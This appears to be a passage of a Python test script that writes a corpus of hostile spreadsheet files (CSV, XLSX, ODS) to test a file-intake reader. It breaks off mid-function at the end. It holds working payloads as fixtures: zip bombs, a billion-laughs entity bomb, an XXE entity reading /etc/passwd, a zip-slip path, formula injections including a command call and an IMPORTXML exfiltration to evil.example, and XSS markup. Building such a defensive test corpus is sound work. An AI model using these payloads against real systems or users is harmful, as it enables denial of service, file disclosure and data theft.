"""Generate the hostile-file corpus: broken or malicious spreadsheets, small and big.

    python tests/hostile/make_hostile.py OUT_FOLDER      (writes every file into OUT_FOLDER)

Nothing is committed but this script: the big files (zip bombs, a million columns, a million
empty lines) are written at test time into a temporary folder, and the small ones with them so the
corpus is one list. Deterministic: the same bytes every run (zip members carry a fixed date).
Each case names the file and what reading it must end in: ``error`` (a plain IntakeError),
``report`` (a validation report) or ``either``.
"""

from __future__ import annotations

import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

GOOD = "https://files.example.com/kyc/{}.jpg"
ZIP_DATE = (2025, 1, 1, 0, 0, 0)


@dataclass(frozen=True)
class Case:
    """One hostile file: its name, what reading it must end in, and how to write it."""

    name: str
    expect: str  # "error" | "report" | "either"
    write: Callable[[Path], None]
    big: bool = False  # megabytes: written at test time only


def _csv(rows: list[list[str]]) -> bytes:
    import csv
    import io

    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def _good_rows(count: int = 3) -> list[list[str]]:
    return [["document_id", "file_url"]] + [[f"D{i}", GOOD.format(i)] for i in range(count)]


def _text(data: bytes) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(data)


# Workbooks crafted by hand, so each part can be made hostile ---------------------------------

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="{name}" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"
EMPTY_STRINGS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0" uniqueCount="0"/>'
)


def _esc(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def cell(ref: str, value: str, kind: str = "inlineStr") -> str:
    """One cell of sheet XML: inline text, an Excel error (``e``) or a formula with its cached text."""
    if kind == "e":
        return f'<c r="{ref}" t="e"><v>{_esc(value)}</v></c>'
    if kind == "f":
        return f'<c r="{ref}" t="str"><f>{_esc(value[1:])}</f><v>{_esc(value)}</v></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{_esc(value)}</t></is></c>'


def rows_xml(rows: list[list[tuple[str, str]]]) -> str:
    """Sheet rows from (value, kind) pairs, columns A, B, C..."""
    out = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(cell(f"{chr(65 + c)}{r}", v, k) for c, (v, k) in enumerate(row))
        out.append(f'<row r="{r}">{cells}</row>')
    return "".join(out)


def write_xlsx(path: Path, sheet_xml: str | bytes, *, strings: str | bytes = EMPTY_STRINGS,
               sheet_name: str = "Sheet1", extra: dict[str, bytes] | None = None) -> None:
    """A minimal xlsx whose sheet and shared-strings parts are given whole."""
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK.format(name=_esc(sheet_name)),
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
        "xl/worksheets/sheet1.xml": sheet_xml,
        "xl/sharedStrings.xml": strings,
        **(extra or {}),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data, zipfile.ZIP_DEFLATED)


def _xlsx_rows(rows: list[list[tuple[str, str]]], **kwargs) -> Callable[[Path], None]:
    return lambda path: write_xlsx(path, SHEET_HEAD + rows_xml(rows) + SHEET_TAIL, **kwargs)


def _header() -> list[tuple[str, str]]:
    return [("document_id", "s"), ("file_url", "s")]


def _deflated(data: bytes, *, last: bool) -> bytes:
    # A fresh compressor per piece and a full flush make pieces that can simply be concatenated.
    packer = zlib.compressobj(6, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(zlib.Z_FINISH if last else zlib.Z_FULL_FLUSH)


def write_raw_zip(path: Path, members: list[tuple[str, bytes, int, int, int | None]]) -> None:
    """A zip from (name, raw deflate data, crc, size, declared size or None) members."""
    dos_time, dos_date = 0, (ZIP_DATE[0] - 1980) << 9 | ZIP_DATE[1] << 5 | ZIP_DATE[2]
    body, central = bytearray(), bytearray()
    for name, data, crc, size, declared in members:
        encoded, usize = name.encode(), size if declared is None else declared
        fields = (dos_time, dos_date, crc, len(data), usize, len(encoded))
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, *fields,
                               0, 0, 0, 0, 0, len(body)) + encoded
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, *fields, 0) + encoded + data
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central),
                      len(body), 0)
    path.write_bytes(bytes(body + central + end))


def _member(name: str, data: bytes | str) -> tuple[str, bytes, int, int, None]:
    raw = data.encode() if isinstance(data, str) else data
    return name, _deflated(raw, last=True), zlib.crc32(raw), len(raw), None


def write_bomb(path: Path, *, member: str, inflated_mb: int, mimetype: bool = False,
               declared_size: int | None = None) -> None:
    """A workbook whose one member inflates to ``inflated_mb`` MB of repeated rows (a zip bomb).

    The megabyte of rows is compressed once and its compressed bytes repeated, so writing a
    gigabyte bomb takes a moment; ``declared_size`` makes the zip directory lie about its size.
    """
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    chunk = row * (1024 * 1024 // len(row))
    head, tail = SHEET_HEAD.encode(), SHEET_TAIL.encode()
    packed_chunk = _deflated(chunk, last=False)
    crc = zlib.crc32(head)
    for _ in range(inflated_mb):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    data = _deflated(head, last=False) + packed_chunk * inflated_mb + _deflated(tail, last=True)
    size = len(head) + len(chunk) * inflated_mb + len(tail)
    if mimetype:
        members = [_member("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
                   _member("META-INF/manifest.xml", ODS_MANIFEST)]
    else:
        members = [_member(name, text) for name, text in (
            ("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", ROOT_RELS),
            ("xl/workbook.xml", WORKBOOK.format(name="Sheet1")),
            ("xl/_rels/workbook.xml.rels", WORKBOOK_RELS), ("xl/sharedStrings.xml", EMPTY_STRINGS))]
    write_raw_zip(path, [*members, (member, data, crc, size, declared_size)])


def write_lying_bomb(path: Path) -> None:
    """A zip bomb whose directory claims 1 KB for a 300 MB sheet (so a size check is fooled)."""
    write_bomb(path, member="xl/worksheets/sheet1.xml", inflated_mb=300, declared_size=1024)


def _nested(depth: int) -> str:
    return SHEET_HEAD + '<row r="1">' + "<x>" * depth + "</x>" * depth + "</row>" + SHEET_TAIL


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
              for i in range(1, 10))
    + ']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>document_id</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)
XXE = (
    '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>document_id</t></is></c>'
    '<c r="B1" t="inlineStr"><is><t>file_url</t></is></c></row>'
    '<row r="2"><c r="A2" t="inlineStr"><is><t>&xxe;</t></is></c>'
    '<c r="B2" t="inlineStr"><is><t>https://files.example.com/kyc/1.jpg</t></is></c></row>'
    "</sheetData></worksheet>"
)


def _huge_shared_strings(path: Path) -> None:
    # 200,000 distinct strings of 200 characters (40 MB inflated), referenced by 3 cells.
    body = "".join(f"<si><t>{i:07d}{'s' * 193}</t></si>" for i in range(200_000))
    strings = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
               f'spreadsheetml/2006/main" count="200000" uniqueCount="200000">{body}</sst>')
    sheet = (SHEET_HEAD + '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
             '<row r="2"><c r="A2" t="s"><v>199999</v></c></row>' + SHEET_TAIL)
    write_xlsx(path, sheet, strings=strings)


def _one_huge_shared_string(path: Path) -> None:
    strings = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
               f'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>{"h" * 30_000_000}</t></si></sst>')
    sheet = SHEET_HEAD + '<row r="1"><c r="A1" t="s"><v>0</v></c></row>' + SHEET_TAIL
    write_xlsx(path, sheet, strings=strings)


def _far_cell(path: Path) -> None:
    # One cell at the very last row and column Excel allows: a reader must not fill the grid.
    sheet = (SHEET_HEAD + '<row r="1"><c r="A1" t="inlineStr"><is><t>document_id</t></is></c></row>'
             '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>' + SHEET_TAIL)
    write_xlsx(path, sheet)


ODS_REPEAT_BOMB = (
    '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
    '<office:body><office:spreadsheet><table:table table:name="Sheet1">'
    '<table:table-row><table:table-cell office:value-type="string"><text:p>document_id</text:p>'
    '</table:table-cell></table:table-row>'
    '<table:table-row table:number-rows-repeated="1048575"><table:table-cell '
    'table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
    "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>"
    "</office:document-content>"
)


ODS_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
    'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
    '<manifest:file-entry manifest:full-path="/" '
    'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>"
)


def _ods_repeat_bomb(path: Path) -> None:
    # A few hundred bytes whose "repeat this cell" attributes describe 17 billion cells.
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype", ZIP_DATE),
                         "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        archive.writestr(zipfile.ZipInfo("META-INF/manifest.xml", ZIP_DATE), ODS_MANIFEST)
        archive.writestr(zipfile.ZipInfo("content.xml", ZIP_DATE), ODS_REPEAT_BOMB)


def _far_cell_tab_separated(path: Path) -> None:
    # The same far cell, its attributes separated by tabs (legal XML) to slip past a scan for " r=".
    sheet = (SHEET_HEAD + '<row r="1"><c r="A1" t="inlineStr"><is><t>document_id</t></is></c></row>'
             '<row\tr="1048576"><c\tr="XFD1048576"\tt="inlineStr"><is><t>far</t></is></c></row>'
             + SHEET_TAIL)
    write_xlsx(path, sheet)


def _far_cell_prefixed(path: Path, prefix: str = "x", space: str = "\t") -> None:
    # Namespace-prefixed elements (<x:c>) with tab-separated attributes: legal, and read by calamine.
    head = ('<?xml version="1.0" encoding="UTF-8"?><x:worksheet\txmlns:x="http://schemas.'
            'openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>')
    cells = ('<x:row\tr="1"><x:c\tr="A1"\tt="inlineStr"><x:is><x:t>document_id</x:t></x:is></x:c>'
             '</x:row><x:row\tr="1048576"><x:c\tr="XFD1048576"\tt="inlineStr"><x:is><x:t>far'
             "</x:t></x:is></x:c></x:row></x:sheetData></x:worksheet>")
    xml = (head + cells).replace("\t", space)
    write_xlsx(path, xml.replace("x:", f"{prefix}:").replace(":x=", f":{prefix}="))


def _far_cell_unicode_prefixed(path: Path) -> None:
    # The same with a non-ASCII prefix (legal in an XML name) and plain spaces, so only the prefix
    # can tell a scan that its fast forms (<row r="...) do not see these rows.
    _far_cell_prefixed(path, prefix="\u00fc", space=" ")


def _far_cell_sheet(body: str) -> Callable[[Path], None]:
    # Each body below slipped past an earlier extent scan and made calamine abort the process.
    return lambda path: write_xlsx(path, SHEET_HEAD + body + SHEET_TAIL)


# calamine counts one column on for every <c> without r: 16,383 of them make a row that wide.
UNNAMED_CELLS = ('<row r="1">' + "<c></c>" * 16383 + '<c t="inlineStr"><is><t>x</t></is></c></row>'
                 '<row r="200000"><c r="A200000" t="inlineStr"><is><t>y</t></is></c></row>')
SINGLE_QUOTED = ('<row r="1"><c r="A1" t="inlineStr"><is><t>document_id</t></is></c></row>'
                 "<row r='1048576'><c r='XFD1048576' t=\"inlineStr\"><is><t>far</t></is></c></row>")
FOUR_LETTER_COLUMN = ('<row r="1"><c r="A1" t="inlineStr"><is><t>document_id</t></is></c></row>'
                      '<row r="200000"><c r="AAAA200000" t="inlineStr"><is><t>far</t></is></c></row>')
# A cell's own reference far below its row, written the way Excel writes every cell: calamine
# places the cell by its reference, 4 billion rows down, and aborts allocating the grid.
FAR_ROW_IN_CELL = ('<row r="1"><c r="A1" t="inlineStr"><is><t>document_id</t></is></c>'
                   '<c r="Z4000000000" t="inlineStr"><is><t>far</t></is></c></row>')


# Workbooks other programs write, which calamine reads: the intake must read them too, and still
# measure each of their sheets (a giant in the same clothes must still be refused).
def _package(sheet_xml: str, layout: str) -> dict[str, str]:
    """The parts of a one-sheet xlsx, laid out the usual way or as some exporters do."""
    if layout == "workbook_elsewhere":  # _rels/.rels names wb/workbook.xml, its sheets in wb/sheets/
        return {"[Content_Types].xml": CONTENT_TYPES.replace("/xl/workbook.xml", "/wb/workbook.xml")
                .replace("/xl/worksheets/sheet1.xml", "/wb/sheets/s1.xml"),
                "_rels/.rels": ROOT_RELS.replace("xl/workbook.xml", "wb/workbook.xml"),
                "wb/workbook.xml": WORKBOOK.format(name="Sheet1"),
                "wb/_rels/workbook.xml.rels": WORKBOOK_RELS.replace("worksheets/sheet1.xml", "sheets/s1.xml"),
                "wb/sheets/s1.xml": sheet_xml, "wb/sharedStrings.xml": EMPTY_STRINGS}
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS,
             "xl/workbook.xml": WORKBOOK.format(name="Sheet1"),
             "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
             "xl/worksheets/sheet1.xml": sheet_xml, "xl/sharedStrings.xml": EMPTY_STRINGS}
    if layout == "backslashes":  # as some Windows exporters write zip entries
        return {name.replace("/", "\\"): data for name, data in parts.items()}
    if layout in ("xl/worksheets/data.xml", "xl/data/s.xml"):  # the sheet where the rels say
        parts[layout] = parts.pop("xl/worksheets/sheet1.xml")
        parts["xl/_rels/workbook.xml.rels"] = WORKBOOK_RELS.replace(
            "worksheets/sheet1.xml", layout.removeprefix("xl/"))
    return parts


def write_package(path: Path, sheet_xml: str, layout: str) -> None:
    """A one-sheet xlsx in the given layout (see _package)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in _package(sheet_xml, layout).items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data, zipfile.ZIP_DEFLATED)


TWO_ROWS = rows_xml([[("document_id", "s"), ("file_url", "s")], [("D1", "s"), (GOOD.format(1), "s")],
                     [("D2", "s"), (GOOD.format(2), "s")]])
FAR_VALUE = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
# Formatting to the last row and column: styled empty cells and styled empty rows, no values.
STYLED_BLANKS = ('<row r="4" s="1" customFormat="1"><c r="A4" s="1"/><c r="AN4" s="1"></c></row>'
                 '<row r="1048575" s="1" customFormat="1"/>'
                 '<row r="1048576" s="1" customFormat="1" spans="1:16384">'
                 '<c r="A1048576" s="1"/><c r="XFD1048576" s="2" t="s"/></row>')


def _far_cell_in_a_twin_entry(path: Path) -> None:
    # The sheet twice: once as xl/worksheets/sheet1.xml, once (far reaching) with backslashes.
    parts = {"xl\\worksheets\\sheet1.xml": SHEET_HEAD + TWO_ROWS + FAR_VALUE + SHEET_TAIL,
             **_package(SHEET_HEAD + TWO_ROWS + SHEET_TAIL, "usual")}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data, zipfile.ZIP_DEFLATED)


def _in_layout(body: str, layout: str) -> Callable[[Path], None]:
    return lambda path: write_package(path, SHEET_HEAD + body + SHEET_TAIL, layout)


def _truncated(path: Path) -> None:
    _xlsx_rows([_header(), [("1", "s"), (GOOD.format(1), "s")]])(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _zip_slip(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(zipfile.ZipInfo("../../../../tmp/atlas-zip-slip.txt", ZIP_DATE), "pwned")
        archive.writestr(zipfile.ZipInfo("xl/workbook.xml", ZIP_DATE), WORKBOOK.format(name="S"))


def _png(path: Path) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
                     + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b""))


def _plain_zip(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(zipfile.ZipInfo("documents.csv", ZIP_DATE), _csv(_good_rows()))


def _million_columns(path: Path) -> None:
    header = ",".join(f"c{i}" for i in range(1_000_000))
    path.write_bytes(f"document_id,file_url,{header}\r\nD1,{GOOD.format(1)}\r\n".encode())


def _million_empty_lines(path: Path) -> None:
    with path.open("wb") as handle:
        handle.write(b"document_id,file_url\r\n")
        handle.write(b"\r\n" * 1_000_000)
        handle.write(f"D1,{GOOD.format(1)}\r\n".encode())


def _megabyte_cells(path: Path) -> None:
    big = "A" * 1024 * 1024
    path.write_bytes(_csv([["document_id", "file_url", "note"], ["D1", GOOD.format(1), big],
                           [big, GOOD.format(2), "x"], ["D3", "https://x.test/" + big, "x"]]))


def _long_line_no_newline(path: Path) -> None:
    path.write_bytes(b"document_id,file_url," + b"z" * 20 * 1024 * 1024)


def _over_size_limit(path: Path) -> None:
    with path.open("wb") as handle:
        handle.write(b"document_id,file_url\r\n")
        line = f"D,{GOOD.format('x')}\r\n".encode()
        handle.write(line * (51 * 1024 * 1024 // len(line) + 1))


FORMULAS = [["document_id", "file_url"],
            ["=cmd|' /C calc'!A0", GOOD.format(1)],
            ["D2", '=HYPERLINK("https://evil.example/x","click")'],
            ["+SUM(1,2)", GOOD.format(3)], ["@SUM(A1)", GOOD.format(4)], ["-2+3", GOOD.format(5)],
            ["D6", "=IMPORTXML(CONCAT(\"https://evil.example/?\",A2),\"//a\")"]]
MARKUP = [["document_id", "file_url", "name"],
          ["<script>alert(1)</script>", GOOD.format(1), "<img src=x onerror=alert(1)>"],
          ["D2", "javascript:alert(1)", "<b>bold</b>"],
          ["D3", GOOD.format(3), "</td></tr></table><iframe src=//evil.example>"],
          ["D4", "https://files.example.com/<svg onload=alert(1)>.jpg", "{{7*7}}"]]


def cases() -> list[Case]:
    """The corpus: at least thirty files, each with the outcome reading it must end in."""
    header = _header()
    return [
        Case("zip_bomb.xlsx", "error", lambda p: write_bomb(
            p, member="xl/worksheets/sheet1.xml", inflated_mb=1100), big=True),
        Case("zip_bomb_under_limit.xlsx", "either", lambda p: write_bomb(
            p, member="xl/worksheets/sheet1.xml", inflated_mb=600), big=True),
        Case("zip_bomb_lying_sizes.xlsx", "either", write_lying_bomb, big=True),
        Case("zip_bomb.ods", "error", lambda p: write_bomb(
            p, member="content.xml", inflated_mb=1100, mimetype=True), big=True),
        Case("million_columns.csv", "either", _million_columns, big=True),
        Case("million_empty_lines.csv", "report", _million_empty_lines, big=True),
        Case("megabyte_cells.csv", "report", _megabyte_cells, big=True),
        Case("twenty_mb_line.csv", "either", _long_line_no_newline, big=True),
        Case("over_size_limit.csv", "error", _over_size_limit, big=True),
        Case("huge_shared_strings.xlsx", "either", _huge_shared_strings, big=True),
        Case("one_huge_shared_string.xlsx", "either", _one_huge_shared_string, big=True),
        Case("deeply_nested.xlsx", "either", lambda p: write_xlsx(p, _nested(200_000)), big=True),
        Case("formulas.csv", "report", _text(_csv(FORMULAS))),
        Case("formulas.xlsx", "report", _xlsx_rows(
            [header] + [[(a, "f" if a[0] in "=+-@" else "s"), (b, "f" if b[0] == "=" else "s")]
                        for a, b in FORMULAS[1:]])),
        Case("markup_in_cells.csv", "report", _text(_csv(MARKUP))),
        Case("nul_bytes.csv", "either", _text(b"document_id,file_url\r\nD\x001," + GOOD.format(1).encode()
                                              + b"\r\nD2,https://x.test/\x00.jpg\r\n")),
        Case("nul_flood.csv", "either", _text(b"document_id,file_url\r\n" + b"\x00" * 100_000)),
        Case("mixed_encodings.csv", "either", _text(
            b"document_id,file_url,name\r\nD1," + GOOD.format(1).encode() + ",Zoë\r\n".encode()
            + b"D2," + GOOD.format(2).encode() + b",Zo\xeb \x93quoted\x94\r\n"
            + b"D3," + GOOD.format(3).encode() + ",राहुल\r\n".encode())),
        Case("invalid_utf8_and_surrogates.csv", "report", _text(
            b"document_id,file_url\r\nD\xed\xa0\x801," + GOOD.format(1).encode()
            + b"\r\nD\xff\xfe2," + GOOD.format(2).encode() + b"\r\n")),
        Case("excel_errors.xlsx", "report", _xlsx_rows(
            [header, [("#REF!", "e"), (GOOD.format(1), "s")], [("D2", "s"), ("#N/A", "e")],
             [("#DIV/0!", "e"), ("#VALUE!", "e")], [("D4", "s"), ("#NAME?", "e")]])),
        Case("billion_laughs.xlsx", "either", lambda p: write_xlsx(p, BILLION_LAUGHS)),
        Case("xxe_external_entity.xlsx", "either", lambda p: write_xlsx(p, XXE)),
        Case("far_cell.xlsx", "either", _far_cell),
        Case("far_cell_tab_separated.xlsx", "either", _far_cell_tab_separated),
        Case("far_cell_prefixed.xlsx", "either", _far_cell_prefixed),
        Case("far_cell_unicode_prefixed.xlsx", "either", _far_cell_unicode_prefixed),
        Case("far_cell_unnamed_cells.xlsx", "either", _far_cell_sheet(UNNAMED_CELLS)),
        Case("far_cell_single_quoted.xlsx", "either", _far_cell_sheet(SINGLE_QUOTED)),
        Case("far_cell_four_letter_column.xlsx", "either", _far_cell_sheet(FOUR_LETTER_COLUMN)),
        Case("far_row_in_cell_reference.xlsx", "error", _far_cell_sheet(FAR_ROW_IN_CELL)),
        Case("repeated_cells_bomb.ods", "either", _ods_repeat_bomb),
        Case("truncated.xlsx", "error", _truncated),
        Case("zip_slip.xlsx", "error", _zip_slip),
        Case("really_a_png.csv", "error", _png),
        Case("really_a_png.xlsx", "error", _png),
        Case("really_a_pdf.xlsx", "error", _text(b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")),
        Case("really_a_zip.xlsx", "error", _plain_zip),
        Case("really_gzip.csv", "error", _text(b"\x1f\x8b\x08\x00" + zlib.compress(b"a,b\n1,2\n"))),
        Case("ole_garbage.xls", "error", _text(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xab" * 4096)),
        Case("html_as_xls.xls", "error", _text(
            b"<html><body><table><tr><td>document_id</td><td>file_url</td></tr></table></body></html>")),
        Case("unbalanced_quotes.csv", "either", _text(
            b'document_id,file_url\r\n"D1,' + GOOD.format(1).encode() + b'\r\nD2,"' + GOOD.format(2).encode()
            + b'\r\n"D3","x""\r\n')),
        Case("extremely_long_header.csv", "either", _text(
            b"document_id,file_url," + b"H" * 2_000_000 + b"\r\nD1," + GOOD.format(1).encode() + b",x\r\n")),
        Case("duplicate_headers.csv", "report", _text(_csv(
            [["document_id", "file_url", "file_url", "document_id", "document_id"],
             ["D1", GOOD.format(1), GOOD.format(9), "X1", "Y1"]]))),
        Case("empty.csv", "error", _text(b"")),
        Case("only_bom.csv", "error", _text(b"\xef\xbb\xbf")),
        Case("odd_utf16.csv", "either", _text(b"\xff\xfe" + "document_id,file_url\r\n".encode("utf-16-le") + b"\x41")),
        Case("cr_only_newlines.csv", "report", _text(
            b"document_id,file_url\rD1," + GOOD.format(1).encode() + b"\rD2," + GOOD.format(2).encode() + b"\r")),
        Case("bidi_and_controls.csv", "report", _text(_csv(
            [["document_id", "file_url"], ["D\u202e1gpj.exe", GOOD.format(1)],
             ["D\x1b[31m2", GOOD.format(2)], ["\u200b\u200b", GOOD.format(3)]]))),
        Case("script_sheet_name.xlsx", "report", _xlsx_rows(
            [header, [("D1", "s"), (GOOD.format(1), "s")]], sheet_name="<script>alert(1)</script>")),
        Case("every_row_other_delimiter.csv", "either", _text(
            b"document_id;file_url\r\nD1," + GOOD.format(1).encode() + b"\r\nD2\t" + GOOD.format(2).encode()
            + b"\r\nD3|" + GOOD.format(3).encode() + b"\r\n")),
        *UNUSUAL_WORKBOOKS, *HOSTILE_ROWS,
    ]


UNUSUAL_WORKBOOKS = [
    Case("real_backslash_entries.xlsx", "report", _in_layout(TWO_ROWS, "backslashes")),
    Case("real_sheet_named_data.xlsx", "report", _in_layout(TWO_ROWS, "xl/worksheets/data.xml")),
    Case("real_sheet_outside_worksheets.xlsx", "report", _in_layout(TWO_ROWS, "xl/data/s.xml")),
    Case("real_workbook_elsewhere.xlsx", "report", _in_layout(TWO_ROWS, "workbook_elsewhere")),
    Case("real_styled_blanks_to_last_row.xlsx", "report", _in_layout(TWO_ROWS + STYLED_BLANKS, "usual")),
    Case("far_cell_backslash_entries.xlsx", "error", _in_layout(TWO_ROWS + FAR_VALUE, "backslashes")),
    Case("far_cell_sheet_outside_worksheets.xlsx", "error", _in_layout(TWO_ROWS + FAR_VALUE, "xl/data/s.xml")),
    Case("far_cell_workbook_elsewhere.xlsx", "error", _in_layout(TWO_ROWS + FAR_VALUE, "workbook_elsewhere")),
    Case("far_cell_among_styled_blanks.xlsx", "error", _in_layout(TWO_ROWS + STYLED_BLANKS.replace(
        '<c r="A1048576" s="1"/>', '<c r="A1048576" s="1"/><c r="XFC1048576" t="inlineStr"><is><t>far</t></is></c>'),
        "usual")),
    Case("far_cell_in_a_twin_entry.xlsx", "error", _far_cell_in_a_twin_entry),
    # "/>" inside an attribute value must not make a cell holding a value look empty.
    Case("far_cell_slash_in_attribute.xlsx", "error", _in_layout(
        TWO_ROWS + '<row r="1048576"><c r="XFD1048576" x="/>" t="inlineStr"><is><t>far</t></is></c></row>',
        "usual")),
    # A cell without a reference after an empty one takes the next column: XFD, far below.
    Case("far_cell_unnamed_after_blank.xlsx", "error", _in_layout(
        TWO_ROWS + '<row r="1048576"><c r="XFC1048576" s="1"/><c t="inlineStr"><is><t>far</t></is></c></row>',
        "usual")),
]


def _wide_row(fields: int) -> Callable[[Path], None]:
    # One data row of ``fields`` two-byte fields (200,000 of them: a 400 KB file).
    return _text(b"document_id,file_url\r\nD1," + GOOD.format(1).encode() + b"," + b"x," * (fields - 3)
                 + b"x\r\n")


def _short_rows_then_wide(path: Path) -> None:
    with path.open("wb") as handle:
        handle.write(b"document_id,file_url\r\n")
        handle.write(b"".join(b"D%d," % i + GOOD.format(i).encode() + b"\r\n" for i in range(300_000)))
        handle.write(b"D,u," + b"x," * 200_000 + b"x\r\n")


def _fifty_mb(unit: bytes, *, lines: bool = False) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        head = b"document_id,file_url\r\n" + (b"" if lines else b"D1," + GOOD.format(1).encode() + b",")
